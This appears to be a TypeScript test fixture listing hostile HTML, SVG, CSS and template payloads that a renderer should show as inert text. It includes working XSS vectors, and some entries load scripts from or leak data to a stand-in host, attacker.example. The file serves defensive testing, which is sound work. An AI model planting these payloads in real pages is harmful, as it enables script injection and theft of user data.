import type { HostileVector } from "./hostileContent.js";

/** HTML, SVG, CSS and template payloads that must render as inert text. @internal */
export const hostileMarkup: readonly HostileVector[] = [
  { name: "script tag", value: '<script>alert("xss")</script>' },
  {
    name: "script tag in mixed case with attributes",
    value: '<ScRiPt type="text/javascript" >alert(1)</sCrIpT >',
  },
  { name: "external script", value: '<script src="https://attacker.example/steal.js"></script>' },
  { name: "img onerror", value: '<img src="x" onerror="alert(1)">' },
  {
    name: "unquoted event handler over the whole page",
    value: '<div onmouseover=alert(1) style="position:fixed;inset:0">hover me</div>',
  },
  {
    name: "details ontoggle",
    value: '<details open ontoggle="alert(1)"><summary>open</summary></details>',
  },
  { name: "svg onload", value: '<svg onload="alert(1)"><circle r="10"/></svg>' },
  { name: "script inside svg", value: "<svg><script>alert(1)</script></svg>" },
  {
    name: "svg foreignObject with an iframe",
    value: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  },
  { name: "iframe srcdoc", value: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
  {
    name: "iframe srcdoc with entities",
    value: '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  },
  {
    name: "object data",
    value: '<object data="data:text/html,<script>alert(1)</script>"></object>',
  },
  { name: "embed javascript", value: '<embed src="javascript:alert(1)">' },
  {
    name: "form action and formaction",
    value:
      '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">Send</button></form>',
  },
  {
    name: "meta refresh",
    value: '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  },
  { name: "base href", value: '<base href="https://attacker.example/">' },
  { name: "closing style tag", value: "</style><script>alert(1)</script><style>" },
  {
    name: "style attribute exfiltration",
    value: "<p style=\"background-image:url('https://attacker.example/leak?c=1')\">styled</p>",
  },
  {
    name: "style element with import",
    value: '<style>@import url("https://attacker.example/x.css"); body { display: none }</style>',
  },
  { name: "CSS expression", value: '<div style="width: expression(alert(1))">wide</div>' },
  {
    name: "external stylesheet",
    value: '<link rel="stylesheet" href="https://attacker.example/x.css">',
  },
  {
    name: "mutation XSS through noscript",
    value: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    name: "mutation XSS through MathML",
    value: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  },
  {
    name: "template injection",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a literal placeholder.
    value: "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7 * 7 %>",
  },
  {
    name: "HTML entities",
    value:
      "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;img src=x onerror=alert(1)&#62;",
  },
  { name: "unclosed tags", value: "<b><i><div><table><tr><td>never closed" },
  {
    name: "HTML comment and CDATA",
    value: "<!-- <script>alert(1)</script> --><![CDATA[<script>alert(2)</script>]]>",
  },
  { name: "unclosed code fence", value: "```html\n<script>alert(1)</script>\n" },
];
